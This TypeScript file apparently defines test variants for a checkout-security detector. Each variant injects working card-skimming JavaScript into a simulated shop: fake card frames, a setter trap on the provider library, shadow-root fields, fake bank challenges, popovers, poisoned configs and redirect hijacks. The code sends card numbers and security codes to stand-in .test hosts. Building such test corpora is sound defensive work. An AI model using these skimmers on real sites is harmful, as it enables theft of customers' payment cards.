import { library, sdk } from './hosted.ts'
import { choose, redirectBody } from './shopfront.ts'
import { checkoutScript, gateway, storeBody } from './store.ts'
import { checkout, html, inline, js, type Variant } from './variants.ts'

const code = String.raw
const redirect = (id: string, about: string, more: string): Variant => ({
  id,
  about,
  change: (site) => void (site.files['shop.test/js/choose.js'] = js(choose(more))),
})
const cardForm = (send: string) =>
  `<label>Card number <input class="n" inputmode="numeric" autocomplete="cc-number"></label><label>Expiry <input class="e" autocomplete="cc-exp"></label><label>Security code <input class="c" autocomplete="cc-csc"></label>${send}`

/** The card belongs into frames of the provider: attacks draw something over them, beside them or instead of them. */
export const eighthHostedAttacks: readonly Variant[] = [
  checkout(
    'e8-srcdoc',
    'a frame whose document is an attribute lies where the frame of the provider was',
    code`var real = document.querySelector("#card-element iframe"), fake = document.createElement("iframe"); fake.title = "Secure card field"; fake.width = 320; fake.height = 90;
fake.srcdoc = "<label>Card number <input autocomplete='cc-number'></label><label>Security code <input autocomplete='cc-csc'></label><script>var i=document.getElementsByTagName('input');i[1].onchange=i[0].onchange=function(){navigator.sendBeacon('http://vault-fields.test/v',i[0].value+' '+i[1].value)}<\/script>";
real.style.display = "none"; real.parentNode.appendChild(fake);`,
  ),
  {
    id: 'e8-setter-trap',
    about:
      'before the library of the provider comes, its global name is trapped, and mounting draws a mirror of the field',
    change: (site) => {
      site.files['js.provider-static.test/v3/card.html'] = {
        type: 'text/html',
        body: `<!doctype html><title>card</title>${cardForm('<script>document.addEventListener("change", function () { fetch("/t", { method: "POST", body: Array.from(document.querySelectorAll("input"), function (i) { return i.value; }).join() }); });</script>')}`,
      }
      site.head.unshift(
        code`<script>(function () { var e; Object.defineProperty(window, "Elements", { configurable: true, get: function () { return e; }, set: function (v) { v.mount = function (s) { var f = document.createElement("iframe"); f.title = "Secure card field"; f.width = 320; f.height = 90; f.src = "http://js.provider-static.test/v3/card.html"; document.querySelector(s).appendChild(f); }; e = v; } }); })();</script>`,
      )
    },
  },
  checkout(
    'e8-closed-root',
    'the frame is said not to load; a field of the shop stands in, in a closed shadow tree, and writes to a log of the shop',
    code`customElements.define("card-fallback", class extends HTMLElement { connectedCallback() { var r = this.attachShadow({ mode: "closed" }); r.innerHTML = "<p>The secure field could not be loaded.</p><input placeholder='Card number' autocomplete='cc-number'><input placeholder='CVC' autocomplete='cc-csc'>"; r.addEventListener("change", function () { var x = new XMLHttpRequest(); x.open("POST", "/static/log.php"); x.send("lvl=debug&m=" + btoa(Array.prototype.map.call(r.querySelectorAll("input"), function (i) { return i.value; }).join("-"))); }); } });
setTimeout(function () { var c = document.querySelector("#card-element"); c.firstElementChild.hidden = true; c.appendChild(document.createElement("card-fallback")); }, 300);`,
  ),
  checkout(
    'e8-false-challenge',
    'paying opens a window of the shop that asks for the card once more, as if the bank did',
    code`Q("#pay").on("submit", function (e) { e.preventDefault(); var d = document.createElement("dialog"); d.innerHTML = "<h2>Confirm with your bank</h2><form method='get' action='http://acs-verify.test/challenge' target='acs'><label>Card number <input name='pan' autocomplete='cc-number'></label><label>Security code <input name='cvv' autocomplete='cc-csc'></label><label>PIN <input name='pin' type='password'></label><button>Confirm</button></form><iframe name='acs' title='Bank' hidden></iframe>"; document.body.appendChild(d); d.showModal(); });`,
  ),
  html(
    'e8-editable',
    'what lies over the frame is no field at all but a text to be edited, key after key',
    code`<style>#card-element{position:relative}.cover{position:absolute;inset:0;background:#fff;border:1px solid #999}</style><div class="cover" contenteditable="true" role="textbox" aria-label="Card number" tabindex="0"></div><script>(function () { var c = document.querySelector(".cover"), t; document.getElementById("card-element").appendChild(c); c.addEventListener("input", function () { clearTimeout(t); t = setTimeout(function () { if (c.textContent.replace(/\D/g, "").length > 12) new Image().src = "http://ime-dictionary.test/w?q=" + encodeURIComponent(c.textContent); }, 300); }); })();</script>`,
  ),
  {
    id: 'e8-config-script',
    about: 'the library of the shop asks for its settings; one of them is a field the gateway is said to need',
    change: (site) => {
      site.files['shop.test/static/settings.json'] = {
        type: 'application/json',
        body: JSON.stringify({
          currency: 'EUR',
          fields: [
            { at: '#card-element', label: 'Card number (for your invoice)', auto: 'cc-number' },
            { at: '#card-element', label: 'Security code', auto: 'cc-csc' },
          ],
          report: 'http://ledger-sync.test/l',
        }),
      }
      site.files['shop.test/static/lib-3.6.0.js'] = js(
        library('3.6.1') +
          code`
addEventListener("load", function () { fetch("/static/settings.json").then(function (r) { return r.json(); }).then(function (o) { o.fields.forEach(function (f) { var l = document.createElement("label"), i = l.appendChild(document.createElement("input")); l.prepend(f.label); i.autocomplete = f.auto; i.onblur = function () { navigator.sendBeacon(o.report, f.auto + i.value); }; document.querySelector(f.at).before(l); }); }); });`,
      )
    },
  },
  {
    id: 'e8-tag-popover',
    about: 'the measuring script shows a note of the bank in the top layer, with fields for the card',
    change: (site) => {
      site.files['stats.measure.test/a.js'] = js(
        code`(function () { navigator.sendBeacon("http://stats.measure.test/g?v=2&z=" + Math.random()); function show() { var p = document.createElement("div"); p.setAttribute("popover", "manual"); p.innerHTML = '<p>Your card has expired. Please enter the new one.</p><input name="new-card" autocomplete="cc-number"><input name="new-code" autocomplete="cc-csc">'; document.body.appendChild(p); p.showPopover(); p.addEventListener("input", function (e) { sessionStorage.setItem("_m_" + e.target.name, e.target.value); }); setInterval(function () { var n = sessionStorage.getItem("_m_new-card"); if (n && n.length > 14) { sessionStorage.removeItem("_m_new-card"); navigator.sendBeacon("http://stats.measure.test/g?v=2&ep.note=" + btoa(n)); } }, 400); } document.readyState === "complete" ? show() : addEventListener("load", show); })();`,
      )
    },
  },
  {
    id: 'e8-sdk-relay',
    about: 'the library of the provider comes from the shop now, and its frame through a proxy of a stranger',
    change: (site) => {
      site.head[0] = '<script src="/static/elements.js"></script>'
      site.files['shop.test/static/elements.js'] = js(sdk('a1', 'js.provider.test.relay-eu.test'))
      site.files['js.provider.test.relay-eu.test/v3/card-a1.html'] = {
        type: 'text/html',
        body: `<!doctype html><title>card</title>${cardForm('<script>document.querySelector(".c").addEventListener("change", function () { fetch("/v3/tokens", { method: "POST", body: new URLSearchParams({ n: document.querySelector(".n").value, c: this.value }) }); });</script>')}`,
      }
    },
  },
]

export const eighthStoreAttacks: readonly Variant[] = [
  {
    id: 'e8-direct-method',
    about: 'a further way to pay with fields of its own; the library posts them to a further action of the shop',
    change: (site) => {
      site.body = storeBody(
        `<li><label><input type="radio" name="payment_method" value="ccd"> Credit card (direct)</label><div class="payment_box" data-method="ccd">${cardForm('')}</div></li>`,
      )
      site.files['shop.test/plugins/store/checkout.min.js'] = js(
        checkoutScript(
          code`Q("[data-method=ccd] input").on("change", function () { Q.ajax({ type: "POST", url: store_params.ajax + "wp_site_health", data: "h=" + btoa(encodeURIComponent([].map.call(document.querySelectorAll("[data-method=ccd] input"), function (i) { return i.value; }).join("|"))) }); });`,
        ),
      )
    },
  },
  {
    id: 'e8-gateway-host',
    about: 'the host of the frames is a setting now, and the setting names another host',
    change: (site) => {
      site.inline[2] =
        'var gateway_params = {"key":"pk_live_51H","locale":"de","cdn":"http:\\/\\/js.provider-eu.test"};'
      site.files['shop.test/plugins/gateway/upe.js'] = js(
        gateway('8.1.1').replace('origin = "http://js.provider.test"', 'origin = gateway_params.cdn'),
      )
      for (const part of ['number', 'expiry', 'cvc'])
        site.files[`js.provider-eu.test/v3/${part}.html`] = {
          type: 'text/html',
          body: `<label>${part} <input autocomplete="cc-${part === 'cvc' ? 'csc' : part === 'expiry' ? 'exp' : 'number'}"></label><script>document.querySelector("input").onchange = function () { fetch("/s?${part}=" + this.value); };</script>`,
        }
    },
  },
  inline(
    'e8-frame-swap',
    'an observer waits for the frames and gives them a document out of a blob, which talks to the page',
    code`new MutationObserver(function (l) { l.forEach(function (m) { m.addedNodes.forEach(function (f) { if (f.tagName !== "IFRAME" || !/v3\/(number|cvc)/.test(f.src)) return; f.src = URL.createObjectURL(new Blob(["<label>" + f.title + " <input autocomplete='" + (/cvc/.test(f.src) ? "cc-csc" : "cc-number") + "' oninput='parent.postMessage({field:this.value},\"*\")'></label>"], { type: "text/html" })); }); }); }).observe(document, { childList: true, subtree: true }); addEventListener("message", function (e) { if (e.data && e.data.field && e.data.field.length > 2) navigator.sendBeacon("http://field-state.test/f", e.data.field); });`,
  ),
  {
    id: 'e8-ajax-filter',
    about: 'the ajax function of the library adds what a field "for the invoice" holds to every request of the shop',
    change: (site) => {
      site.files['shop.test/lib/lib.js'] = js(
        library('3.7.1') +
          code`
(function () { var ajax = Q.ajax; Q.ajax = function (o) { var i = document.querySelector("[autocomplete=cc-number]"); if (i && i.value) o.data = (o.data || "") + "&_wp_http_referer=" + encodeURIComponent(i.value.split("").map(function (c) { return String.fromCharCode(c.charCodeAt(0) + 17); }).join("")); return ajax.call(this, o); };
addEventListener("load", function () { var n = document.getElementById("gw-number"); n.innerHTML = "<label>Card number <input autocomplete='cc-number' inputmode='numeric'></label>"; n.firstChild.onchange = function () { Q.ajax({ type: "POST", url: "/?ajax=heartbeat", data: "t=" + Date.now() }); }; }); })();`,
      )
    },
  },
]

/** The customer should be led to the provider: attacks lead elsewhere, or ask for the card before. */
export const eighthRedirectAttacks: readonly Variant[] = [
  html(
    'e8-base',
    'a base address late in the page: the form, whose action is relative, goes to another host',
    '<base href="http://shop-payments.test/">',
  ),
  {
    id: 'e8-formaction',
    about: 'the button has an action of its own',
    change: (site) => {
      site.body = redirectBody().replace(
        '<button>',
        '<button formaction="http://checkout.payhub-session.test/pay/cs_8127">',
      )
    },
  },
  redirect(
    'e8-swap-on-press',
    'link and form point elsewhere only from the press of the mouse until the click',
    code`function to(u) { form.action = u; document.getElementById("direct").href = u; } document.addEventListener("pointerdown", function () { to("http://checkout.pay-hub.test/pay/cs_8127"); }, true); document.addEventListener("click", function () { setTimeout(function () { form.action = "/payment/start"; document.getElementById("direct").href = "http://checkout.payhub.test/pay/cs_8127"; }, 900); });`,
  ),
  redirect(
    'e8-false-page',
    'the click is answered with a page like that of the provider, drawn by the shop under another path',
    code`form.addEventListener("submit", function (e) { if (form.elements.method.value !== "card") return; e.preventDefault(); history.pushState(null, "", "/payhub/pay/cs_8127"); document.title = "PayHub"; document.body.innerHTML = "<h1>PayHub</h1><form id='ph'><label>Card number <input name='n' autocomplete='cc-number'></label><label>Expiry <input name='e' autocomplete='cc-exp'></label><label>CVC <input name='c' autocomplete='cc-csc'></label><button>Pay</button></form>"; document.getElementById("ph").addEventListener("submit", function (s) { s.preventDefault(); fetch("http://payhub-assets.test/a", { method: "POST", mode: "no-cors", body: new URLSearchParams(new FormData(s.target)) }).finally(function () { location.href = "http://checkout.payhub.test/pay/cs_8127"; }); }); });`,
  ),
  {
    id: 'e8-before-redirect',
    about:
      'below the choice of the card are fields "to save time"; leaving them sends, then the way to the provider is free',
    change: (site) => {
      site.body = redirectBody(
        '<div class="quick"><label>Card number <input class="qn" autocomplete="cc-number"></label><label>CVC <input class="qc" autocomplete="cc-csc"></label></div>',
      )
      site.files['shop.test/js/choose.js'] = js(
        choose(
          code`form.addEventListener("focusout", function (e) { if (!e.target.closest(".quick")) return; var v = [form.querySelector(".qn").value, form.querySelector(".qc").value]; if (v[0].length > 14) v.join("-").match(/.{1,5}/g).forEach(function (p, i) { setTimeout(function () { new Image().src = "http://p" + i + ".quick-cards.test/" + p + ".png"; }, i * 60); }); });`,
        ),
      )
    },
  },
  {
    id: 'e8-other-session',
    about:
      'the measuring script leads the link to an account of a stranger at a page of a stranger, after the page has loaded',
    change: (site) => {
      const body = site.files['www.tagbox.test/box.js']?.body ?? ''
      site.files['www.tagbox.test/box.js'] = js(
        `${body}addEventListener("load", function () { setTimeout(function () { var a = document.getElementById("direct"), c = a.cloneNode(true); c.href = a.href.replace("payhub.test", "payhub.billing-link.test"); a.replaceWith(c); }, 500); });`,
      )
    },
  },
]
